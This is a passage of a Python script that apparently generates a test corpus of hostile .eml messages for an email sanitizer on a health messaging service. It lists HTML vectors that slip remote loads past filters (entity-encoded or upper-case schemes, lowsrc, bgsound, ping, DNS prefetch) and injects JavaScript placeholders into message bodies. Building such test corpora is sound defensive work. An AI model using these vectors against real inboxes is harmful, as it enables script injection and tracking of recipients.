add("remote-img-lowsrc", f"<img lowsrc=\"{S}/remote/remote-img-lowsrc.png\" dynsrc=\"{S}/remote/remote-img-dynsrc.avi\">", "lowsrc and dynsrc")
add("remote-img-uppercase-scheme", f"<img src=\"HTTP://127.0.0.1:17790/remote/remote-img-uppercase-scheme.png\">", "upper-case scheme")
add("remote-img-entity-scheme", "<img src=\"&#104;ttp://127.0.0.1:17790/remote/remote-img-entity-scheme.png\">", "entity-encoded scheme")
add("remote-img-whitespace", f"<img src=\" \t{S}/remote/remote-img-whitespace.png \">", "URL with surrounding whitespace")
add("remote-image-tag", f"<image src=\"{S}/remote/remote-image-tag.png\">", "<image> becomes <img>")
add("remote-input-image", f"<input type=image src=\"{S}/remote/remote-input-image.png\">", "input image")
add("remote-bgsound", f"<bgsound src=\"{S}/remote/remote-bgsound.wav\">", "bgsound")
add("remote-track", f"<video><track default src=\"{S}/remote/remote-track.vtt\"></video>", "track")
add("remote-ping", f"<a href=\"https://example.org/\" ping=\"{S}/remote/remote-ping\">x</a>", "a ping")
add("remote-longdesc", f"<img longdesc=\"{S}/remote/remote-longdesc\" alt=x>", "longdesc")
add("remote-meta-dns-prefetch", f"<meta http-equiv=\"x-dns-prefetch-control\" content=\"on\"><link rel=dns-prefetch href=\"//sentinel.invalid\"><img src=\"{S}/remote/remote-meta-dns-prefetch.png\">", "dns prefetch")

def build(name, html, desc):
    j = js(name)
    body = html.replace("{J_NOSPACE}", j.replace(" ", "/**/")).replace("{J}", j).replace("{{", "{").replace("}}", "}")
    if not body.lstrip().lower().startswith(("<html", "<body", "<!doctype")):
        body = "<html><body>" + body + "</body></html>"
    # Quoted-printable keeps the files readable and carries tabs and control characters
    # through SMTP untouched.
    email.charset.add_charset("utf-8", email.charset.QP, email.charset.QP, "utf-8")
    msg = MIMEText(body + "\n", "html", "utf-8")
    msg["From"] = "Expediteur Hostile <attaquant@ch-demo.mssante.fr>"
    msg["To"] = "claire.leroy@pharmacien.mssante.fr"
    msg["Subject"] = "XSS " + name
    msg["Date"] = "Sun, 22 Nov 2026 00:00:00 +0000"
    msg["Message-ID"] = f"<xss-{name}@corpus.mssante.test>"
    msg["X-Xss-Vector"] = desc
    return msg.as_bytes(policy=email.policy.SMTP)

def main():
    for f in os.listdir(HERE):
        if f.endswith(".eml"):
            os.remove(os.path.join(HERE, f))
    names = set()
    for name, html, desc in V:
        assert name not in names, name
        names.add(name)
        with open(os.path.join(HERE, name + ".eml"), "wb") as f:
            f.write(build(name, html, desc))
    print(len(V), "messages")

main()
